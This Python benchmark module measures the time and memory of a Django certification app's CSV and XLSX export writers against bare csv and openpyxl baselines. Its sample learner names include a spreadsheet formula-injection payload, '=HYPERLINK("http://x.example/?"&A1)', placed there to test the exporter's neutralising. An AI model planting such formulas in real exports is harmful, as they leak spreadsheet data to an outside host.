"""``python -m benchmarks exports``: 100,000 certificates to CSV and XLSX through the export writers.

Each figure is compared with a baseline measured in the same run: the same rows (same columns and
values) written with the bare ``csv`` module and with openpyxl's write-only mode, without presets or
neutralising. Every measurement runs in a forked child so its peak memory (RSS high-water mark above
the child's starting RSS) is its own; a run at a tenth of the rows shows whether memory stays flat.
Wall time (p50/p95 over the runs) and CPU time are both reported: on a shared machine the CPU-time
ratio is the steadier of the two.
"""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io
import multiprocessing
import os
import resource
import tempfile
import time
from collections.abc import Iterator

import psutil

from benchmarks import report


def _setup_django() -> None:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "demo.settings")
    import django  # pylint: disable=import-outside-toplevel

    django.setup()


def certificates(rows: int) -> Iterator:
    """Certificates built on the fly, as the certification api streams them (names with payloads included)."""
    from xblocks.certification.data import CertificateData, LearnerData, SchoolData, TrackData

    track = TrackData(1, "cloud-ops", "Cloud Operations Associate", "", 3, 7, "", 40.0)
    school = SchoolData(1, "north", "North School", "", "", "FR", "")
    issued = dt.datetime(2026, 6, 30, 9, 15, tzinfo=dt.UTC)
    names = ["Léa Benali", '=HYPERLINK("http://x.example/?"&A1)', "ليلى حداد", "John Smith", "-1+1 Test"]
    for n in range(rows):
        yield CertificateData(
            id=n,
            number=f"KF-2026-{n:06d}",
            status="active",
            issued_at=issued,
            valid_from=issued.date(),
            valid_until=dt.date(2028, 6, 30),
            learner=LearnerData(n, f"user{n}", f"user{n}@example.com", names[n % 5], "", "en"),
            track=track,
            school=school,
            cohort_id=1,
            cohort_name="North 2026",
            cohort_slug="n-2026",
            hours_total=16 + (n % 40) / 4,
            hours_by_category={"ethics": 3.0},
            hours_by_source={},
            results=(),
            employee_id=f"E-{n}",
            evidence={},
        )


def _baseline_row(cert, verify: str, typed: bool = False) -> list:
    """The Kafaat preset's values by plain attribute access: what a hand-written exporter would do.

    ``typed``: dates as date and datetime objects (an XLSX writer makes them date cells, as Kafaat's
    does), else ISO 8601 text (CSV).
    """
    hours = round(cert.hours_total, 2)
    issued = cert.issued_at.replace(tzinfo=None)
    if typed:
        start, completed, valid_from = issued, issued, cert.valid_from
        issue_date, expiry, modified = issued.date(), cert.valid_until or "", issued
    else:
        start, completed, valid_from = issued.isoformat(), issued.isoformat(), cert.valid_from.isoformat()
        issue_date = issued.date().isoformat()
        expiry = cert.valid_until.isoformat() if cert.valid_until else ""
        modified = issued.isoformat()
    return [
        cert.employee_id,
        cert.learner.email,
        cert.learner.full_name,
        cert.number,
        cert.track.title,
        cert.track.slug,
        cert.track.version,
        "Kafaat",
        cert.school.name,
        cert.school.slug,
        cert.cohort_slug,
        cert.cohort_name,
        "Active",
        start,
        completed,
        valid_from,
        issue_date,
        expiry,
        "Pass",
        hours,
        hours,
        max(0.1, round(hours / 10, 1)),
        3.0,
        "",
        verify + cert.number + "/",
        "UTC",
        modified,
        "Kafaat",
    ]


def run_case(case: str, rows: int, path: str) -> None:
    from xblocks.certification.exports import formats, presets
    from xblocks.certification.exports.records import FIELDS

    preset = presets.BUILTIN["kafaat"]
    verify = "http://127.0.0.1:8000/kafaat/credentials/verify/"
    with open(path, "wb") as out:
        if case == "csv-baseline":
            text = io.TextIOWrapper(out, encoding="utf-8", newline="")
            writer = csv.writer(text, lineterminator="\r\n")
            writer.writerow(FIELDS)
            for cert in certificates(rows):
                writer.writerow(_baseline_row(cert, verify))
            text.flush()
            text.detach()
        elif case == "csv-kafaat":
            formats.write_csv(certificates(rows), out, preset=preset, progress=lambda done: None)
        elif case == "xlsx-baseline":
            from openpyxl import Workbook

            workbook = Workbook(write_only=True)
            sheet = workbook.create_sheet("Kafaat")
            sheet.append(list(FIELDS))
            for cert in certificates(rows):
                sheet.append(_baseline_row(cert, verify, typed=True))
            workbook.save(out)
        elif case == "xlsx-kafaat":
            formats.write_xlsx(certificates(rows), out, preset=preset, progress=lambda done: None)
        else:
            raise ValueError(case)


def _child(case: str, rows: int, conn) -> None:
    _setup_django()
    # import everything either side uses before the starting RSS is read, so peaks compare work, not imports
    import openpyxl  # noqa: F401

    from xblocks.certification.credentials import api  # noqa: F401
    from xblocks.certification.exports import formats, records  # noqa: F401

    records.RecordBuilder()
    process = psutil.Process()
    start_rss = process.memory_info().rss
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "out")
        began, began_cpu = time.perf_counter(), time.process_time()
        run_case(case, rows, path)
        elapsed, cpu = time.perf_counter() - began, time.process_time() - began_cpu
        size = os.path.getsize(path)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024  # Linux reports KiB
    conn.send({"seconds": elapsed, "cpu_seconds": cpu, "bytes": size, "peak_mib": max(0, peak - start_rss) / 2**20})
    conn.close()


def measure(case: str, rows: int) -> dict:
    ctx = multiprocessing.get_context("fork")
    parent, child = ctx.Pipe(duplex=False)
    process = ctx.Process(target=_child, args=(case, rows, child))
    process.start()
    result = parent.recv()
    process.join()
    return result


def _seed(rows: int):
    """A throwaway database with ``rows`` consenting learners' certificates in one school."""
    from django.contrib.auth import get_user_model
    from django.core.management import call_command
    from django.utils import timezone

    from xblocks.certification import models

    call_command("migrate", run_syncdb=True, verbosity=0)
    user_model = get_user_model()
    staff = user_model.objects.create(username="bench-staff", is_staff=True, is_superuser=True)
    track = models.Track.objects.create(slug="cloud-ops", title="Cloud Operations Associate")
    version = models.TrackVersion.objects.create(track=track, version=1, title=track.title)
    models.Requirement.objects.create(version=version, kind="hours", title="Hours", threshold=20)
    models.TrackVersion.objects.filter(pk=version.pk).update(published=True, published_at=timezone.now())  # frozen
    school = models.School.objects.create(slug="north", name="North School")
    cohort = models.Cohort.objects.create(school=school, track=track, slug="n-2026", name="North 2026")
    employer = models.Employer.objects.create(slug="acme", name="Acme")
    now = timezone.now()
    batch = 5000
    for start in range(0, rows, batch):
        size = min(batch, rows - start)
        users = user_model.objects.bulk_create(
            [user_model(username=f"u{n}", email=f"u{n}@example.com", first_name="Léa", last_name=f"B{n}",
                        password="!") for n in range(start, start + size)]
        )  # fmt: skip
        enrollments = models.Enrollment.objects.bulk_create(
            [models.Enrollment(user=u, cohort=cohort, track_version=version, employee_id=f"E-{u.pk}") for u in users]
        )
        models.Consent.objects.bulk_create(
            [models.Consent(enrollment=e, employer=employer, granted_at=now) for e in enrollments]
        )
        models.Certificate.objects.bulk_create(
            [
                models.Certificate(number=f"KF-{e.pk:07d}", user_id=e.user_id, track_version=version, enrollment=e,
                                   cohort=cohort, issued_at=now, valid_from=now.date(), hours_total=21.5)
                for e in enrollments
            ]
        )  # fmt: skip
    return staff


def _database_child(rows: int, conn) -> None:
    folder = tempfile.mkdtemp(prefix="kafaat-bench-exports-")
    os.environ["KAFAAT_VAR_DIR"] = folder
    os.environ["DJANGO_SETTINGS_MODULE"] = "tests.settings"
    import django

    django.setup()
    from xblocks.certification import api as cert_api
    from xblocks.certification.exports import api
    from xblocks.certification.exports.records import FIELDS

    staff = _seed(rows)
    verify = "http://127.0.0.1:8000/kafaat/credentials/verify/"
    results = {}
    for case in ("db-csv-baseline", "db-csv-kafaat", "db-csv-baseline", "db-csv-kafaat"):
        path = os.path.join(folder, case)
        began, began_cpu = time.perf_counter(), time.process_time()
        with open(path, "wb") as out:
            if case == "db-csv-baseline":
                text = io.TextIOWrapper(out, encoding="utf-8", newline="")
                writer = csv.writer(text, lineterminator="\r\n")
                writer.writerow(FIELDS)
                for cert in cert_api.iter_certificate_records(staff, employer_slug="acme"):
                    writer.writerow(_baseline_row(cert, verify))
                text.flush()
                text.detach()
            else:
                api.write_export(staff, out, format="csv", employer="acme")
        sample = {"seconds": time.perf_counter() - began, "cpu_seconds": time.process_time() - began_cpu}
        results.setdefault(case, []).append(sample)
    conn.send(results)
    conn.close()


def database_figures(rows: int) -> list[dict]:
    """CSV from the database: the certification api's stream written bare vs through the export api."""
    ctx = multiprocessing.get_context("fork")
    parent, child = ctx.Pipe(duplex=False)
    process = ctx.Process(target=_database_child, args=(rows, child))
    process.start()
    results = parent.recv()
    process.join()
    base = min(r["seconds"] for r in results["db-csv-baseline"])
    base_cpu = min(r["cpu_seconds"] for r in results["db-csv-baseline"])
    table = []
    for case, runs in results.items():
        best = min(r["seconds"] for r in runs)
        cpu = min(r["cpu_seconds"] for r in runs)
        table.append({"case": case, "rows": rows, "best_s": best, "x_time": report.ratio(best, base),
                      "cpu_s": cpu, "x_cpu": report.ratio(cpu, base_cpu), "rows_per_s": rows / best})  # fmt: skip
    return table


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks exports")
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--formats", default="csv,xlsx")
    parser.add_argument(
        "--database", type=int, default=0, metavar="ROWS",
        help="also export ROWS certificates from a throwaway SQLite database (certification api included)",
    )  # fmt: skip
    args = parser.parse_args(argv)
    table, figures = [], {}
    for fmt in args.formats.split(","):
        samples: dict[str, list[dict]] = {}
        for _ in range(args.repeat):
            for case in (f"{fmt}-baseline", f"{fmt}-kafaat"):  # interleaved so drift hits both
                samples.setdefault(case, []).append(measure(case, args.rows))
        small = {case: measure(case, max(1, args.rows // 10)) for case in samples}
        base_time = report.summary([s["seconds"] for s in samples[f"{fmt}-baseline"]])
        base_cpu = report.summary([s["cpu_seconds"] for s in samples[f"{fmt}-baseline"]])
        base_peak = max(s["peak_mib"] for s in samples[f"{fmt}-baseline"])
        for case, runs in samples.items():
            times = report.summary([r["seconds"] for r in runs])
            cpu = report.summary([r["cpu_seconds"] for r in runs])
            peak = max(r["peak_mib"] for r in runs)
            row = {
                "case": case,
                "rows": args.rows,
                "p50_s": times["p50"],
                "p95_s": times["p95"],
                "x_time": report.ratio(times["p50"], base_time["p50"]),
                "cpu_p50_s": cpu["p50"],
                "x_cpu": report.ratio(cpu["p50"], base_cpu["p50"]),
                "rows_per_s": args.rows / times["p50"],
                "peak_mib": peak,
                "x_peak": report.ratio(peak, base_peak) if base_peak > 0.5 else float("nan"),
                f"peak_mib_{args.rows // 10}_rows": small[case]["peak_mib"],
                "mib_out": runs[0]["bytes"] / 2**20,
            }
            table.append(row)
            figures[case] = row | {"samples": runs}
    columns = [
        "case",
        "rows",
        "p50_s",
        "p95_s",
        "x_time",
        "cpu_p50_s",
        "x_cpu",
        "rows_per_s",
        "peak_mib",
        "x_peak",
        f"peak_mib_{args.rows // 10}_rows",
        "mib_out",
    ]
    report.print_table(
        f"Exports: {args.rows} certificates, {args.repeat} runs each (x_ = ratio to the baseline)", table, columns
    )
    if args.database:
        db_table = database_figures(args.database)
        report.print_table(
            f"CSV from the database: {args.database} certificates (best of 2; baseline = the certification api's"
            " stream written with bare csv)",
            db_table,
            ["case", "rows", "best_s", "x_time", "cpu_s", "x_cpu", "rows_per_s"],
        )
        figures["database"] = db_table
    report.save("exports", figures)
    return 0
